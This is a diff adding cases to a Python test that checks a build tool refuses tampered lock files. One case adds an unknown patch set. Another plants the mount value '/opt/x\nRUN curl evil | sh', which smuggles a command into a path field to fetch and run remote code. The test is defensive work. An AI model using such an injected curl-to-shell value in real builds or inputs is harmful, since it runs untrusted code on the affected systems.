@@ -346,6 +346,15 @@ def test_a_lock_that_swaps_a_pinned_wheel_is_refused_by_check_build_and_verify(b
         lock_path.write_text(json.dumps(lock))
         code, _, err = _run("--store", str(built.store), "check", str(built.spec))
         assert code == 2 and "sources.six.filename must be a bare file name" in err
+        lock = json.loads(original)  # a patch set the spec does not have, smuggled in through the lock
+        lock["patches"]["extra"] = {**lock["patches"]["demo"], "mode": "bake"}
+        lock_path.write_text(json.dumps(lock))
+        code, _, err = _run("--store", str(built.store), "build", str(built.spec), "--quiet")
+        assert code == 2 and "patches: lock has ['demo', 'demo-runtime', 'extra']" in err
+        lock["patches"]["extra"]["files"][0]["mount"] = "/opt/x\nRUN curl evil | sh"
+        lock_path.write_text(json.dumps(lock))
+        code, _, err = _run("--store", str(built.store), "check", str(built.spec))
+        assert code == 2 and "mount must be a clean absolute path" in err
     finally:
         lock_path.write_text(original)
 
